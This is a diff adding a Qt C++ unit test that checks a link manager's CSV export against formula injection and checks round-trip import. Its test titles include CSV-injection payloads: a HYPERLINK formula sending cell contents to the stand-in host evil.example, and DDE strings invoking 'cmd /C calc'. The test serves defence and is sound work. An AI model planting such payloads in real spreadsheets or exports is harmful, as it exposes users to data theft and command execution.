@@ -11,6 +11,7 @@
 #include <QTimeZone>
 
 #include "bulktest.h"
+#include "core/base/csv.h"
 #include "core/base/sqlite.h"
 #include "core/bulk/exporter.h"
 #include "core/bulk/importer.h"
@@ -96,6 +97,7 @@ private slots:
     void exportImportRoundTrip_data();
     void exportImportRoundTrip();
     void xlsxExport();
+    void csvExportGuardsFormulas();
     void parseTimes();
 
 private:
@@ -552,6 +554,102 @@ void TestImporter::xlsxExport()
         Exporter::write(m_backend->links(), LinkQuery{}, ExportFormat::Xlsx, m_dir->filePath(u"no/such/dir.xlsx"_s));
     QVERIFY(!refused);
     QVERIFY(refused.error().message.contains(u"cannot be written"_s));
+}
+
+// OWASP's CSV injection: no cell of an exported CSV starts with = + - @, a tab or a carriage
+// return (a spreadsheet would run it); such a cell gets a leading apostrophe, plain numbers
+// stay numbers, and the file imports back with every title and tag as it was.
+void TestImporter::csvExportGuardsFormulas()
+{
+    const QStringList titles{u"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s,
+                             u"+1+1"_s,
+                             u"-2+3+cmd|' /C calc'!A0"_s,
+                             u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
+                             u"\tTab first"_s,
+                             u"'=already an apostrophe"_s,
+                             u"''+two"_s,
+                             u"'plain quote"_s,
+                             u"-12"_s,
+                             u"Spring sale = 20% off"_s};
+    QList<Link> links;
+    for (int i = 0; i < titles.size(); ++i) {
+        Link l;
+        l.accountId = 1;
+        l.domain = domain();
+        l.slug = u"f%1"_s.arg(i);
+        l.shortUrl = LocalProvider::shortUrlFor(l.domain, l.slug);
+        l.destination = u"https://shop.example/f/%1"_s.arg(i);
+        l.title = titles.at(i);
+        l.tags = {u"=1+2"_s, u"ok"_s};
+        links << l;
+    }
+    QVERIFY(m_backend->links().insertMany(links));
+    LinkQuery all;
+    all.order = Qt::AscendingOrder;
+    const QString path = m_dir->filePath(u"formulas.csv"_s);
+    QCOMPARE(*Exporter::write(m_backend->links(), all, ExportFormat::Csv, path), qint64(titles.size()));
+
+    // Every cell as a spreadsheet reads it (RFC 4180), the apostrophe kept.
+    const QString text = QString::fromUtf8(readFile(path)).mid(1);   // after the BOM
+    QStringList cells;
+    QString cell;
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text.at(i);
+        if (quoted) {
+            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
+                cell += c;
+                ++i;
+            } else if (c == u'"') {
+                quoted = false;
+            } else {
+                cell += c;
+            }
+        } else if (c == u'"') {
+            quoted = true;
+        } else if (c == u',' || c == u'\n') {
+            if (c == u'\n' && cell.endsWith(u'\r'))
+                cell.chop(1);
+            cells << cell;
+            cell.clear();
+        } else {
+            cell += c;
+        }
+    }
+    int guardedCells = 0;
+    for (const QString &c : std::as_const(cells)) {
+        const QChar first = c.isEmpty() ? QChar() : c.front();
+        const bool formulaStart = first == u'=' || first == u'+' || first == u'@' || first == u'\t' || first == u'\r'
+            || (first == u'-' && c != u"-12"_s);
+        QVERIFY2(!formulaStart, qPrintable(c));
+        guardedCells += c.startsWith(u'\'');
+    }
+    QVERIFY(cells.contains(u"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s));
+    QVERIFY(cells.contains(u"'-2+3+cmd|' /C calc'!A0"_s));
+    QVERIFY(cells.contains(u"'\tTab first"_s));
+    QVERIFY(cells.contains(u"'''+two"_s));
+    QVERIFY(cells.contains(u"'=1+2, ok"_s));      // the tags cell
+    QVERIFY(cells.contains(u"'plain quote"_s));   // no formula: as it is
+    QVERIFY(cells.contains(u"-12"_s));            // a number stays a number
+    QVERIFY(cells.contains(u"Spring sale = 20% off"_s));
+    // Seven guarded titles, every tags cell, and "'plain quote" as it was.
+    QCOMPARE(guardedCells, 7 + titles.size() + 1);
+
+    // Imported back: every title and tag as it was.
+    QTemporaryDir otherDir;
+    Backend other;
+    QVERIFY(other.open(otherDir.filePath(u"links.sqlite"_s)));
+    const ImportReport report = import(readFile(path), {}, &other);
+    QCOMPARE(report.created, qint64(titles.size()));
+    for (int i = 0; i < titles.size(); ++i) {
+        const auto back = link(u"f%1"_s.arg(i), &other);
+        QVERIFY(back);
+        QCOMPARE(back->title, titles.at(i).trimmed());   // an import trims every cell, as it always did
+        QCOMPARE(back->tags, (QStringList{u"=1+2"_s, u"ok"_s}));
+    }
+    // The rule itself: unguarded() undoes guarded().
+    for (const QString &t : titles + QStringList{u""_s, u"'"_s, u"''"_s, u"+"_s, u"'-"_s, u"1,5"_s, u"-1."_s})
+        QCOMPARE(Csv::unguarded(Csv::guarded(t)), t);
 }
 
 void TestImporter::parseTimes()
